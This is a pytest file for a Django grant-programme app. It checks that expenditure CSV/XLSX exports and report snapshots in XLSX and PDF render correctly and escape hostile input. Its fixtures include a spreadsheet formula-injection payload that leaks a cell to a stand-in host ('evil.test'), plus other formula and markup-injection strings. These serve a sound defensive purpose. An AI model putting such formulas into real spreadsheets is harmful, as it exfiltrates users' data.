"""Programme exports: expenditure CSV/XLSX, report snapshots as XLSX and PDF read back with real parsers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from creativepoles.core.exports import csv_response, xlsx_response
from creativepoles.programme.exports import expenditure_totals, expenditures_rows, report_pdf, report_xlsx
from creativepoles.programme.imports import parse_expenditure_file
from creativepoles.programme.models import (
    BudgetLine,
    CostCategory,
    Expenditure,
    Indicator,
    IndicatorValue,
    Partner,
    PartnerReport,
    PartnerRole,
    Period,
    Project,
    ProjectReport,
)
from creativepoles.programme.services.reports import partner_snapshot, project_snapshot

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
NASTY = [
    "#panic(\"boom\")", "*bold* _it_ `raw` $x^2$ $", "<label> @ref [open ]close", "// comment /* block",
    "= heading", "- list", "+ enum", "/ term: x", "1. numbered", "back\\slash \\u{41} \\", "'single' \"double\"",
    "http://example.com/a_b", "--- -- ... ~ &", "#{ let x = 1 }", "]) #panic() [", "}{)(", "\\", "Klaipėda Łódź Tõnu",
]


def pdf_text(data: bytes) -> str:
    """All text of a PDF, pages joined."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def sheet_rows(data: bytes, title: str) -> list[tuple[Any, ...]]:
    """The values of one sheet of an XLSX."""
    return list(load_workbook(io.BytesIO(data))[title].iter_rows(values_only=True))


def as_decimal(value: Any) -> Decimal:
    """A numeric cell as Decimal; a string here would mean the number was not written as a number."""
    assert isinstance(value, int | float) and not isinstance(value, bool), value
    return Decimal(str(value))


@pytest.fixture
def money(world: dict[str, Any]) -> dict[str, Any]:
    """A project with two periods, a Klaipėda partner in LTL with budget, items and an indicator, and its reports."""
    project = Project.objects.create(title="Urban Creative Poles", acronym="ucp", start_date=dt.date(2024, 1, 1),
                                     total_amount=Decimal("2500000.00"), total_currency="EUR")
    p1 = Period.objects.create(project=project, number=1, start=dt.date(2024, 1, 1), end=dt.date(2024, 6, 30))
    Period.objects.create(project=project, number=2, start=dt.date(2024, 7, 1), end=dt.date(2024, 12, 31))
    partner = Partner.objects.create(project=project, organisation=world["k_org"], role=PartnerRole.PARTNER,
                                     number=1, currency="LTL")
    lead = Partner.objects.create(project=project, organisation=world["lead_org"], role=PartnerRole.LEAD,
                                  number=2, currency="EUR")
    BudgetLine.objects.create(partner=partner, category=CostCategory.STAFF, period=p1, amount=Decimal("600000.00"))
    BudgetLine.objects.create(partner=partner, category=CostCategory.EXTERNAL, amount=Decimal("507105.00"))
    BudgetLine.objects.create(partner=lead, category=CostCategory.STAFF, amount=Decimal("1000.00"))
    Expenditure.objects.create(partner=partner, period=p1, date=dt.date(2024, 2, 1), category=CostCategory.STAFF,
                               description="Project manager salary", amount=Decimal("1234.56"), currency="LTL",
                               supplier="", invoice_number="PAY-1")
    Expenditure.objects.create(partner=partner, period=p1, date=dt.date(2024, 3, 1), category=CostCategory.EXTERNAL,
                               description=HYPERLINK, amount=Decimal("100.00"), currency="EUR",
                               supplier="@SUM(A1)", invoice_number="-2+3")
    indicator = Indicator.objects.create(project=project, code="O1", name="Hours of consulting", unit="h",
                                         target=Decimal("750"))
    IndicatorValue.objects.create(indicator=indicator, city=world["klaipeda"], value=Decimal("12.50"),
                                  recorded_on=dt.date(2024, 3, 1))
    report = PartnerReport.objects.create(partner=partner, period=p1, summary="Good progress.\nSecond line #panic()")
    project_report = ProjectReport.objects.create(project=project, period=p1, summary="All on track.")
    return {"project": project, "partner": partner, "p1": p1, "report": report, "project_report": project_report}


def test_it_writes_expenditure_csv_with_bom_and_escaped_formulas(money: dict[str, Any]) -> None:
    header, rows = expenditures_rows(Expenditure.objects.filter(partner=money["partner"]))
    response = csv_response("items Klaipėda.csv", header, rows)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response.content.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert parsed[0] == ["Partner", "Period", "Date", "Category", "Description", "Supplier", "Invoice number",
                         "Amount", "Currency", "Amount (EUR)"]
    assert parsed[1] == ["PP1 Klaipėda agency", "1", "2024-02-01", "Staff", "Project manager salary", "",
                         "PAY-1", "1234.56", "LTL", "357.55"]
    assert parsed[2][4] == "'" + HYPERLINK
    assert parsed[2][5] == "'@SUM(A1)" and parsed[2][6] == "'-2+3" and parsed[2][7] == "100.00"


def test_it_writes_expenditure_xlsx_with_numbers_and_escaped_formulas(money: dict[str, Any]) -> None:
    header, rows = expenditures_rows(Expenditure.objects.filter(partner=money["partner"]))
    response = xlsx_response("items.xlsx", [("Items", header, rows)])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = load_workbook(io.BytesIO(response.content))["Items"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["H2"].value == pytest.approx(1234.56) and sheet["H2"].number_format == "#,##0.00"
    assert as_decimal(sheet["H2"].value) == Decimal("1234.56")
    assert sheet["C2"].value.date() == dt.date(2024, 2, 1)
    assert sheet["E3"].value == "'" + HYPERLINK and sheet["E3"].data_type == "s"
    assert sheet["F3"].value == "'@SUM(A1)"
    assert sheet.column_dimensions["E"].width > sheet.column_dimensions["B"].width


def test_it_exports_the_partner_snapshot_as_xlsx_with_its_figures(money: dict[str, Any]) -> None:
    snap = partner_snapshot(money["report"])
    assert snap["budget_total"] == "1107105.00"
    data = report_xlsx(snap)
    assert load_workbook(io.BytesIO(data)).sheetnames == ["Summary", "By category", "Items", "Indicators"]
    summary = {row[0]: row[1] for row in sheet_rows(data, "Summary")[1:]}
    assert summary["Partner"] == "PP1 Klaipėda agency" and summary["City"] == "Klaipėda"
    assert summary["Period"] == 1 and summary["Currency"] == "LTL"
    for label, key in (("Budget total", "budget_total"), ("Spent total", "spent_total"),
                       ("Budget in the period", "budget_period"), ("Spent in the period", "spent_period")):
        assert as_decimal(summary[label]) == Decimal(snap[key]), label
    categories = sheet_rows(data, "By category")[1:]
    for row, expected in zip(categories, snap["by_category"], strict=False):
        assert row[0] == expected["label"]
        assert (as_decimal(row[1]), as_decimal(row[2])) == (Decimal(expected["budget"]), Decimal(expected["spent"]))
    assert categories[-1][0] == "Total" and as_decimal(categories[-1][1]) == Decimal("1107105.00")
    items = sheet_rows(data, "Items")[1:]
    assert len(items) == len(snap["items"]) + 1
    assert items[1][2] == "'" + HYPERLINK
    assert as_decimal(items[1][5]) == Decimal("100.00") and items[1][6] == "EUR"
    assert as_decimal(items[1][7]) == Decimal(snap["items"][1]["amount_partner_currency"]) == Decimal("345.28")
    assert as_decimal(items[-1][7]) == Decimal(snap["items_total"]) == Decimal("1579.84")
    indicators = sheet_rows(data, "Indicators")[1:]
    # Named, never coded: the code O1 appears nowhere in the sheet.
    assert indicators[0][:2] == ("Hours of consulting", "h")
    assert "O1" not in [cell for row in sheet_rows(data, "Indicators") for cell in row]
    assert as_decimal(indicators[0][2]) == Decimal("750") and as_decimal(indicators[0][3]) == Decimal("12.5")


def test_it_exports_the_project_snapshot_as_xlsx_with_its_figures(money: dict[str, Any]) -> None:
    snap = project_snapshot(money["project_report"])
    data = report_xlsx(snap)
    assert load_workbook(io.BytesIO(data)).sheetnames == ["Summary", "Partners", "Indicators"]
    summary = {row[0]: row[1] for row in sheet_rows(data, "Summary")[1:]}
    assert as_decimal(summary["Total budget"]) == Decimal(snap["total"]["amount"]) == Decimal("2500000.00")
    partners = sheet_rows(data, "Partners")[1:]
    assert [row[0] for row in partners[:-1]] == [p["partner"] for p in snap["partners"]]
    for row, expected in zip(partners, snap["partners"], strict=False):
        assert [as_decimal(v) for v in row[3:8]] == [
            Decimal(expected[k]) for k in ("budget", "spent", "budget_eur", "spent_eur", "certified")]
    assert as_decimal(partners[-1][5]) == sum(Decimal(p["budget_eur"]) for p in snap["partners"])
    indicators = sheet_rows(data, "Indicators")[1:]
    assert as_decimal(indicators[0][3]) == Decimal(snap["indicators"][0]["achieved"]) == Decimal("12.5")


def test_it_renders_the_partner_snapshot_as_a4_pdf(money: dict[str, Any]) -> None:
    snap = partner_snapshot(money["report"])
    data = report_pdf(snap)
    assert data.startswith(b"%PDF")
    page = PdfReader(io.BytesIO(data)).pages[0]
    assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (595, 842)
    text = pdf_text(data)
    for expected in ("PP1 Klaipėda agency", "1,107,105.00", "600,000.00", "507,105.00", "1,234.56", "345.28",
                     "1,579.84", "2024-01-01", "2024-06-30", "Hours of consulting", "750", "12.5",
                     "Snapshot taken at submission; figures do not change afterwards.", "#panic()", HYPERLINK):
        assert expected in text, expected
    assert "LTL" in text and "EUR" in text
    # The project by its title, not its short name; indicators by name, not by code.
    assert "Project: Urban Creative Poles" in text and "ucp" not in text.lower().split()
    assert "O1" not in text
    assert report_pdf(snap) == data  # deterministic


def test_it_renders_the_project_snapshot_as_pdf(money: dict[str, Any]) -> None:
    snap = project_snapshot(money["project_report"])
    text = pdf_text(report_pdf(snap))
    for expected in ("Urban Creative Poles", "2,500,000.00", "PP1 Klaipėda agency", "PP2 Lead university",
                     "1,107,105.00", "1,000.00", "All on track.", "Snapshot taken at submission"):
        assert expected in text, expected


def test_it_survives_hostile_snapshot_strings_in_the_pdf() -> None:
    nasty = "".join(NASTY)
    snap = {
        "kind": "partner", "project": nasty, "partner": "PP9 " + nasty, "city": nasty, "currency": "EUR",
        "period": {"number": 1, "start": "2024-01-01", "end": "2024-06-30"}, "summary": nasty,
        "budget_total": "1107105.00", "spent_total": "0.00", "budget_period": "0.00", "spent_period": "0.00",
        "by_category": [{"category": "staff", "label": nasty, "budget": "1107105.00", "spent": "0.00"}],
        "items": [{"date": "2024-01-02", "category": "bogus", "description": nasty, "supplier": nasty,
                   "invoice_number": nasty, "amount": "1.00", "currency": "EUR", "amount_partner_currency": "1.00"}],
        "items_total": "1.00",
        "indicators": [{"code": nasty, "name": nasty, "unit": nasty, "target": "1", "achieved_city": "0",
                        "achieved_total": "0"}],
    }
    text = pdf_text(report_pdf(snap))
    assert "1,107,105.00" in text and "#panic(\"boom\")" in text
    assert report_xlsx(snap)


def test_it_totals_the_expenditure_export_by_currency_and_in_eur(money: dict[str, Any]) -> None:
    header, rows = expenditures_rows(Expenditure.objects.filter(partner=money["partner"]))
    totals_header, totals = expenditure_totals(rows)
    assert totals_header == ["Figure", "Currency", "Amount", "Amount (EUR)"]
    assert totals == [["Total", "EUR", Decimal("100.00"), Decimal("100.00")],
                      ["Total", "LTL", Decimal("1234.56"), Decimal("357.55")],
                      ["Total (EUR)", "EUR", None, Decimal("457.55")]]


def test_it_imports_an_exported_file_back_despite_the_eur_column(money: dict[str, Any]) -> None:
    header, rows = expenditures_rows(Expenditure.objects.filter(partner=money["partner"]))
    response = csv_response("items.csv", header, rows[:1])
    parsed, errors = parse_expenditure_file("items.csv", response.content)
    assert errors == []
    assert [(r["amount"], r["currency"]) for r in parsed] == [(Decimal("1234.56"), "LTL")]
